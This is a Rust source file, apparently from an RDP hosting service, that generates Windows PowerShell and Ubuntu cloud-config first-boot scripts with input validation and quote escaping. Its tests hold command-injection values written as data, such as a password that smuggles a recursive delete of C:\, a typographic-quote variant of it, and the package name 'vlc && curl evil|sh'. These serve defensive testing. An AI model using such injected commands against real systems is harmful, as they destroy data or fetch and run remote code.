//! First-boot scripts generated per order: a PowerShell script for Windows Server and a
//! `#cloud-config` for Ubuntu desktop with xrdp.
//!
//! Both turn RDP on first (Windows: RDP enabled, NLA required, firewall opened; Ubuntu: xrdp
//! with an XFCE session, firewall opened for 3389) and only then install the plan's packages,
//! one at a time, logging failures on the machine without ever blocking RDP. Windows Update is
//! left on. Nothing from an order or customer reaches a script unescaped: package names are
//! checked against a strict pattern, PowerShell strings are single-quoted with quotes doubled,
//! and the cloud-config is JSON (a subset of YAML) written by `serde_json`.

use std::{fmt::Write as _, net::IpAddr};

use secrecy::{ExposeSecret, SecretString};
use serde_json::json;

use crate::{
    error::{Error, Result},
    plan::is_valid_package_name,
};

/// Where a bootstrap script logs on the machine.
pub const WINDOWS_LOG: &str = r"C:\ProgramData\nemordp\bootstrap.log";
/// Where the cloud-config logs on the machine.
pub const LINUX_LOG: &str = "/var/log/nemordp-bootstrap.log";

/// What goes into a first-boot script.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct BootstrapSpec {
    /// Host name to set.
    pub hostname: String,
    /// The login account (`Administrator` on Windows, e.g. `rdpuser` on Ubuntu).
    pub username: String,
    /// Password to set. Windows: only where the provider does not return one (travels in
    /// user-data, which the VM's metadata service exposes; rotate after first boot). Ubuntu:
    /// required, stored in the cloud-config only as a SHA-512 crypt hash.
    pub password: Option<SecretString>,
    /// Packages to install after RDP is up (Chocolatey names on Windows, apt on Ubuntu).
    pub packages: Vec<String>,
    /// Restrict RDP to this address; `None` opens 3389 to all.
    pub rdp_source: Option<IpAddr>,
}

impl BootstrapSpec {
    /// A spec for `hostname` and `username`.
    pub fn new(hostname: impl Into<String>, username: impl Into<String>) -> Self {
        Self {
            hostname: hostname.into(),
            username: username.into(),
            password: None,
            packages: Vec::new(),
            rdp_source: None,
        }
    }

    /// Sets the password.
    #[must_use]
    pub fn with_password(mut self, password: SecretString) -> Self {
        self.password = Some(password);
        self
    }

    /// Sets the packages.
    #[must_use]
    pub fn with_packages<I, S>(mut self, packages: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.packages = packages.into_iter().map(Into::into).collect();
        self
    }

    /// Restricts RDP to `ip`.
    #[must_use]
    pub fn with_rdp_source(mut self, ip: IpAddr) -> Self {
        self.rdp_source = Some(ip);
        self
    }

    fn validate(&self) -> Result<()> {
        let host_ok = !self.hostname.is_empty()
            && self.hostname.len() <= 63
            && self
                .hostname
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && !self.hostname.starts_with('-')
            && !self.hostname.ends_with('-');
        if !host_ok {
            return Err(Error::invalid_input(format!(
                "hostname {:?} must be 1-63 letters, digits or inner hyphens",
                self.hostname
            )));
        }
        let user_ok = !self.username.is_empty()
            && self.username.len() <= 32
            && self
                .username
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
            && self.username.as_bytes()[0].is_ascii_alphabetic();
        if !user_ok {
            return Err(Error::invalid_input(format!(
                "username {:?} must start with a letter and be 1-32 letters, digits, - or _",
                self.username
            )));
        }
        for p in &self.packages {
            if !is_valid_package_name(p) {
                return Err(Error::invalid_input(format!(
                    "package name {p:?} is not allowed"
                )));
            }
        }
        if let Some(pw) = &self.password
            && pw.expose_secret().chars().any(char::is_control)
        {
            return Err(Error::invalid_input("password contains control characters"));
        }
        Ok(())
    }
}

/// A PowerShell single-quoted string literal. Only single quotes are special inside, but
/// PowerShell's tokenizer takes the typographic ones (U+2018–U+201B) as single quotes too, so
/// each of them is doubled like `'` (as `CodeGeneration.EscapeSingleQuotedStringContent` does).
fn ps_quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201a}' | '\u{201b}') {
            out.push(c);
        }
        out.push(c);
    }
    out.push('\'');
    out
}

/// The Windows Server first-boot script (PowerShell, with the `#ps1_sysnative` marker that
/// cloudbase-init uses).
pub fn windows_powershell(spec: &BootstrapSpec) -> Result<String> {
    spec.validate()?;
    let mut s = String::new();
    let mut w = |line: &str| {
        s.push_str(line);
        s.push_str("\r\n");
    };
    w("#ps1_sysnative");
    w("# nemordp first-boot script: RDP first, then optional software. Windows Update is left on.");
    w("$ErrorActionPreference = 'Continue'");
    w(&format!("$log = {}", ps_quote(WINDOWS_LOG)));
    w("New-Item -ItemType Directory -Force -Path (Split-Path $log) | Out-Null");
    w(
        "function Log([string]$m) { Add-Content -Path $log -Value ((Get-Date -Format o) + ' ' + $m) }",
    );
    w("Log 'bootstrap started'");
    w("$ts = 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server'");
    w("Set-ItemProperty -Path $ts -Name 'fDenyTSConnections' -Value 0");
    w("# Network Level Authentication required; TLS security layer.");
    w("Set-ItemProperty -Path \"$ts\\WinStations\\RDP-Tcp\" -Name 'UserAuthentication' -Value 1");
    w("Set-ItemProperty -Path \"$ts\\WinStations\\RDP-Tcp\" -Name 'SecurityLayer' -Value 2");
    match spec.rdp_source {
        Some(ip) => {
            w("Disable-NetFirewallRule -DisplayGroup 'Remote Desktop'");
            w(&format!(
                "New-NetFirewallRule -DisplayName 'nemordp RDP' -Direction Inbound -Protocol TCP -LocalPort 3389 -RemoteAddress {} -Action Allow | Out-Null",
                ps_quote(&ip.to_string())
            ));
        }
        None => w("Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'"),
    }
    if let Some(pw) = &spec.password {
        w(&format!(
            "$pw = ConvertTo-SecureString {} -AsPlainText -Force",
            ps_quote(pw.expose_secret())
        ));
        w(&format!(
            "Set-LocalUser -Name {} -Password $pw",
            ps_quote(&spec.username)
        ));
        w("Remove-Variable pw");
    }
    w(&format!(
        "try {{ Rename-Computer -NewName {} -Force -ErrorAction Stop }} catch {{ Log ('rename failed: ' + $_) }}",
        ps_quote(&spec.hostname)
    ));
    w("Restart-Service -Name TermService -Force -ErrorAction SilentlyContinue");
    w("Log 'rdp configured'");
    if !spec.packages.is_empty() {
        w("try {");
        w("  Set-ExecutionPolicy Bypass -Scope Process -Force");
        w(
            "  [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072",
        );
        w(
            "  Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        );
        w("} catch { Log ('chocolatey install failed: ' + $_) }");
        let list = spec
            .packages
            .iter()
            .map(|p| ps_quote(p))
            .collect::<Vec<_>>()
            .join(", ");
        w(&format!("foreach ($p in @({list})) {{"));
        w(
            "  try { & choco install $p -y --no-progress | Out-Null; if ($LASTEXITCODE -ne 0) { Log ('package failed: ' + $p) } else { Log ('package installed: ' + $p) } }",
        );
        w("  catch { Log ('package failed: ' + $p + ' ' + $_) }");
        w("}");
    }
    w("Log 'bootstrap finished'");
    Ok(s)
}

/// SHA-512 crypt (`$6$…`) of a password, as `/etc/shadow` and cloud-init's `hashed_passwd`
/// expect.
pub fn sha512_crypt(password: &SecretString) -> Result<String> {
    sha_crypt::sha512_simple(
        password.expose_secret(),
        &sha_crypt::Sha512Params::default(),
    )
    .map_err(|e| {
        Error::new(
            crate::ErrorKind::Unexpected,
            format!("password hashing failed: {e:?}"),
        )
    })
}

/// The Ubuntu desktop `#cloud-config`: the user with a hashed password, xrdp with an XFCE
/// session, ufw allowing 3389 (and SSH), then the plan's apt packages.
pub fn ubuntu_cloud_config(spec: &BootstrapSpec) -> Result<String> {
    spec.validate()?;
    let password = spec.password.as_ref().ok_or_else(|| {
        Error::invalid_input("an Ubuntu desktop needs a password for its RDP user")
    })?;
    let hash = sha512_crypt(password)?;
    let rdp_rule: Vec<String> = match spec.rdp_source {
        Some(ip) => [
            "ufw",
            "allow",
            "from",
            &ip.to_string(),
            "to",
            "any",
            "port",
            "3389",
            "proto",
            "tcp",
        ]
        .map(String::from)
        .to_vec(),
        None => ["ufw", "allow", "3389/tcp"].map(String::from).to_vec(),
    };
    let mut runcmd = vec![
        json!([
            "sh",
            "-c",
            format!("echo \"$(date -Is) bootstrap started\" >> {LINUX_LOG}")
        ]),
        json!([
            "sh",
            "-c",
            "echo xfce4-session > \"/home/$1/.xsession\" && chown \"$1:$1\" \"/home/$1/.xsession\"",
            "sh",
            spec.username
        ]),
        json!(["adduser", "xrdp", "ssl-cert"]),
        json!(["systemctl", "enable", "--now", "xrdp"]),
        json!(["ufw", "allow", "OpenSSH"]),
        json!(rdp_rule),
        json!(["ufw", "--force", "enable"]),
        json!([
            "sh",
            "-c",
            format!("echo \"$(date -Is) rdp configured\" >> {LINUX_LOG}")
        ]),
    ];
    // Each plan package on its own: a failure is logged and never stops the others or RDP.
    // The name travels as a positional argument ($1), never inside the script text.
    for p in &spec.packages {
        runcmd.push(json!([
            "sh",
            "-c",
            format!("DEBIAN_FRONTEND=noninteractive apt-get install -y \"$1\" >/dev/null 2>&1 && echo \"package installed: $1\" >> {LINUX_LOG} || echo \"package failed: $1\" >> {LINUX_LOG}"),
            "sh",
            p
        ]));
    }
    runcmd.push(json!([
        "sh",
        "-c",
        format!("echo \"$(date -Is) bootstrap finished\" >> {LINUX_LOG}")
    ]));
    let config = json!({
        "hostname": spec.hostname,
        "ssh_pwauth": false,
        "users": [
            "default",
            {
                "name": spec.username,
                "gecos": "nemordp RDP user",
                "shell": "/bin/bash",
                "groups": "sudo",
                "lock_passwd": false,
                "hashed_passwd": hash,
            }
        ],
        "package_update": true,
        "packages": ["xrdp", "xorgxrdp", "xfce4", "xfce4-terminal", "dbus-x11", "ufw"],
        "runcmd": runcmd,
    });
    let mut out = String::from("#cloud-config\n");
    let body = serde_json::to_string_pretty(&config)
        .map_err(|e| Error::new(crate::ErrorKind::Unexpected, format!("cloud-config: {e}")))?;
    let _ = writeln!(out, "{body}");
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec() -> BootstrapSpec {
        BootstrapSpec::new("nemordp-1", "rdpuser")
            .with_password(SecretString::from("Xy7-Secret_Pass.word"))
            .with_packages(["firefox", "vlc"])
    }

    #[test]
    fn windows_script_enables_rdp_before_packages() {
        let s = windows_powershell(&BootstrapSpec {
            username: "Administrator".into(),
            ..spec()
        })
        .unwrap();
        let rdp = s.find("fDenyTSConnections").unwrap();
        let nla = s.find("'UserAuthentication' -Value 1").unwrap();
        let choco = s.find("chocolatey").unwrap();
        assert!(rdp < choco && nla < choco);
        assert!(s.contains("Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'"));
        assert!(
            !s.to_lowercase().contains("wuauserv"),
            "Windows Update must stay on"
        );
        assert!(s.contains("@('firefox', 'vlc')"));
        let restricted =
            windows_powershell(&spec().with_rdp_source("203.0.113.9".parse().unwrap())).unwrap();
        assert!(restricted.contains("-RemoteAddress '203.0.113.9'"));
    }

    #[test]
    fn powershell_quoting_neutralises_quotes() {
        assert_eq!(ps_quote("a'b"), "'a''b'");
        let s = windows_powershell(&BootstrapSpec::new("h", "Administrator").with_password(
            SecretString::from("p'; Remove-Item C:\\ -Recurse; '".to_owned()),
        ))
        .unwrap();
        assert!(
            s.contains("ConvertTo-SecureString 'p''; Remove-Item C:\\ -Recurse; ''' -AsPlainText")
        );
    }

    /// Found by the `bootstrap` fuzz target: PowerShell also ends a single-quoted string at a
    /// typographic quote, so `’` in a password closed the literal and the rest ran as code.
    #[test]
    fn powershell_quoting_neutralises_typographic_quotes() {
        assert_eq!(
            ps_quote("a\u{2018}b\u{2019}c\u{201a}d\u{201b}e"),
            "'a\u{2018}\u{2018}b\u{2019}\u{2019}c\u{201a}\u{201a}d\u{201b}\u{201b}e'"
        );
        let s = windows_powershell(&BootstrapSpec::new("h", "Administrator").with_password(
            SecretString::from("x\u{2019}; Remove-Item C:\\ -Recurse; \u{2018}".to_owned()),
        ))
        .unwrap();
        assert!(s.contains(
            "ConvertTo-SecureString 'x\u{2019}\u{2019}; Remove-Item C:\\ -Recurse; \u{2018}\u{2018}' -AsPlainText"
        ));
    }

    #[test]
    fn cloud_config_hashes_the_password() {
        let c = ubuntu_cloud_config(&spec()).unwrap();
        assert!(c.starts_with("#cloud-config\n"));
        assert!(
            !c.contains("Xy7-Secret_Pass.word"),
            "plaintext password in cloud-config"
        );
        let body: serde_json::Value =
            serde_json::from_str(c.trim_start_matches("#cloud-config\n")).unwrap();
        let hash = body["users"][1]["hashed_passwd"].as_str().unwrap();
        assert!(hash.starts_with("$6$"));
        assert!(sha_crypt::sha512_check("Xy7-Secret_Pass.word", hash).is_ok());
        assert!(
            ubuntu_cloud_config(&BootstrapSpec::new("h", "u")).is_err(),
            "password required"
        );
    }

    #[test]
    fn rejects_unsafe_fields() {
        for bad in [
            BootstrapSpec {
                hostname: "a b".into(),
                ..spec()
            },
            BootstrapSpec {
                hostname: String::new(),
                ..spec()
            },
            BootstrapSpec {
                username: "root;reboot".into(),
                ..spec()
            },
            spec().with_packages(["vlc && curl evil|sh"]),
            spec().with_packages(["$(id)"]),
            spec().with_password(SecretString::from("a\nb".to_owned())),
        ] {
            assert!(windows_powershell(&bad).is_err());
            assert!(ubuntu_cloud_config(&bad).is_err());
        }
    }
}
